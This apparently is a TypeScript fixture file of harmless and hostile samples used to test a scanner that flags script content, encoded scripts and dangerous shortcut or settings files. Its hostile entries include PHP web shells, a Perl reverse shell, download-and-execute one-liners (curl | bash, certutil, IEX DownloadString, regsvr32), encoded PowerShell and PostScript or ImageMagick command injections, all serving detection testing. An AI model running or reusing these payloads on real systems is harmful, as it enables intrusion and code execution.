import type { WebSample } from "./web.ts";

const lines = (...texts: string[]) => texts.join("\r\n");

export const scriptSamples: readonly WebSample[] = [
  {
    rule: "script-program",
    filename: "notes.txt",
    harmless: ["# Notes\n\nThe first line of a script is #!/bin/sh.", "<p>job</p>"],
    hostile: [
      "#!/bin/sh\necho hello",
      "<job id='a'><script language='VBScript'>x</script></job>",
      "<scriptlet><registration progid='a'/><script language='JScript'>x</script></scriptlet>",
    ],
  },
  {
    rule: "script-encoded",
    filename: "notes.txt",
    harmless: ["The sign #@~^ begins an encoded script."],
    hostile: ["#@~^EgAAAA==\\ko$K6,JCV^GE@#@&zAUAAA==^#~@", "'\n'\n#@~^EgAAAA==\\ko$K6=="],
  },
  {
    rule: "script-postscript",
    filename: "drawing.ps",
    harmless: [
      "%!PS-Adobe-3.0\n<< /PageSize [595 842] >> setpagedevice\ncurrentfile eexec\nshowpage\n",
      "%!PS\n{(AGMUTIL_imagefile)(w+)file}stopped (AGMUTIL_imagefile)deletefile $str filenameforall\n",
    ],
    hostile: [
      "%!PS\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops\n",
      "%!PS\n(/etc/passwd) (r) file\n",
    ],
  },
  {
    rule: "script-content",
    filename: "notes.txt",
    harmless: [
      "We use PowerShell and curl | less. Call CreateObject to make an object.",
      "Echo off, please.",
      "The tag <?php begins a page.",
      // Listings in a text.
      'To run a program from VBScript:\n\n    Set sh = CreateObject("WScript.Shell")\n\nThen close it.',
      "# Install\n\nRun this command:\n\n```sh\ncurl -s https://example.com/a | bash\n```\n\nIt takes a minute.\nThen open the page.",
      "Release notes\n\nUse Write-Host only for messages.\n\nGet-Process lists processes.\nGet-Service lists services.",
      // Logs, tables, settings and statements of SQL.
      "2026-01-01 10:00:00 INFO start\n2026-01-01 10:00:01 WARN powershell.exe -enc AAAA was blocked\n2026-01-01 10:00:02 INFO end",
      "SET search_path = public;\nSELECT a FROM b WHERE c = 1;\nINSERT INTO b VALUES (1, 'function() { return new ActiveXObject(1) }');",
      "[server]\nport=80\nname=a\n# comment\npath=C:\\data",
      "export=1\nname: value\nif: no\nfor: all",
    ],
    hostile: [
      "<?php system($_GET['c']); ?>",
      "@echo off\r\nstart calc",
      'Set sh = CreateObject("WScript.Shell")\nsh.Run "calc"',
      lines("On Error Resume Next", "Dim a, b", "a = Chr(99) & Chr(97)", "Execute a"),
      'var s = new ActiveXObject("WScript.Shell");',
      'var s = WScript["CreateObject"]("a");\ns["Run"]("calc");',
      "var _0x1a2b3c=['a'];(function(_0x1a2b3d,_0x1a2b3e){return 1})();",
      "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
      "IEX (New-Object Net.WebClient).DownloadString('https://example.com/a')",
      lines(
        "$u = 'https://example.com/a'",
        '$f = "$env:TEMP\\a.exe"',
        "Invoke-WebRequest $u -OutFile $f",
        "& $f",
      ),
      lines(
        "<#",
        "Sends the report.",
        "It has no words of code here.",
        "#>",
        "param(",
        "  [string]$a",
        ")",
        "& $a",
      ),
      "var a = 'YWxlcnQoMSk=';\nvar b = this['eval'];\nb(a);",
      "curl -s https://example.com/a | bash",
      "var c = this['Act' + 'iveXObject'];\nnew c('a');",
      "&(\"{1}{0}\" -f 'ex','i') 'a'",
      "cmd.exe /c certutil -urlcache -f https://example.com/a a.exe & a.exe",
      "cd /tmp || cd /var/run; wget https://example.com/a; chmod 777 a; sh a",
      lines("import os", "os.system('id')"),
      "use Socket;$i='192.0.2.1';socket(S,PF_INET,SOCK_STREAM,6);exec('/bin/sh -i');",
      "<html><body><?php @eval($_POST['x']); ?></body></html>",
      "<%eval request('x')%>",
      "<!--#exec cmd='id' -->",
      "<image><read filename='https://example.com/a.png'/><write filename='a.php'/></image>",
      lines("cd /tmp", "wget https://example.com/a", "chmod 777 a", "./a"),
      "regsvr32 /s /n /u /i:https://example.com/a.sct scrobj.dll",
      lines("set a=1", "if exist b del b", "goto end", ":end"),
      "push graphic-context\nviewbox 0 0 1 1\nfill 'url(https://example.com/\"|id\")'\npop graphic-context",
    ],
  },
];

const property = (content: string) =>
  `<?xml version="1.0"?><plist version="1.0"><dict>${content}</dict></plist>`;

export const shortcutSamples: readonly WebSample[] = [
  {
    rule: "shortcut-link",
    filename: "notes.txt",
    harmless: [
      "See [InternetShortcut] in the manual.",
      property("<key>Title</key><string>a</string><key>URL</key><string>https://example.com/</string>"),
    ],
    hostile: [
      "[InternetShortcut]\r\nURL=https://example.com/",
      "; comment\r\n[internetshortcut]\r\nURL=file://example.com/a.exe\r\n",
      "[DEFAULT]\r\nBASEURL=https://example.com/\r\n[InternetShortcut]\r\nURL=https://example.com/\r\n",
      "<libraryDescription xmlns='x'><url>\\\\example.com</url></libraryDescription>",
      property("<key>URL</key><string>file:///Applications/a.app</string>"),
      "[Desktop Entry]\nType=Link\nURL=https://example.com/",
    ],
  },
  {
    rule: "shortcut-program",
    filename: "notes.txt",
    harmless: ["[Desktop]\nExec=none"],
    hostile: [
      "[Desktop Entry]\nType=Application\nName=Letter\nExec=sh -c id",
      "[Shell]\r\nCommand=2\r\nIconFile=\\\\example.com\\a.ico",
      "[Shell]\r\nIconFile=\\\\example.com\\a.ico\r\nCommand=2",
      "<PCSettings><SearchableContent><ApplicationInformation><DeepLink>calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>",
      "<jnlp codebase='https://example.com/'></jnlp>",
      "<MMC_ConsoleFile></MMC_ConsoleFile>",
      "https://example.com/a.application#a, Culture=neutral",
    ],
  },
  {
    rule: "shortcut-query",
    filename: "notes.txt",
    harmless: ["WEB\nsite"],
    hostile: ["WEB\r\n1\r\nhttps://example.com/a\r\n"],
  },
  {
    rule: "shortcut-settings",
    filename: "notes.txt",
    harmless: ["The registry editor writes Version 5.00."],
    hostile: [
      "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n",
      "REGEDIT4\n\n[HKEY_CURRENT_USER]",
      "[Version]\r\nSignature=$CHICAGO$\r\n[DefaultInstall]\r\nRunPreSetupCommands=a\r\n",
      "full address:s:example.com\r\nscreen mode id:i:2",
      "screen mode id:i:2\r\nuse multimon:i:0\r\nfull address:s:example.com\r\n",
      property("<key>PayloadType</key><string>Configuration</string>"),
      "[.ShellClassInfo]\r\nIconResource=\\\\example.com\\a.ico",
    ],
  },
];

/** Names that make a text a script or a shortcut, with the rule that finds them. */
export const namedSamples: readonly (readonly [rule: string, names: string])[] = [
  [
    "executable-extension",
    "a.js a.JS a.vbs a.vbe a.jse a.wsf a.wsc a.sct a.hta a.ps1 a.psm1 a.bat a.cmd a.command a.applescript a.vbs. a.txt.vbs a.vbs::$DATA",
  ],
  [
    "script-content",
    "a.mjs a.sh a.bash a.py a.pl a.rb a.php a.phtml a.jsp a.asp a.aspx a.lua a.js a.vbs a.ps1 a.bat",
  ],
  ["shortcut-link", "a.url a.library-ms a.searchConnector-ms a.desktop a.webloc"],
  ["shortcut-program", "a.scf a.settingcontent-ms a.jnlp a.application a.appref-ms a.msc"],
  ["shortcut-query", "a.iqy a.oqy a.udl"],
  ["shortcut-settings", "a.reg a.inf a.theme a.rdp desktop.ini autorun.inf"],
];
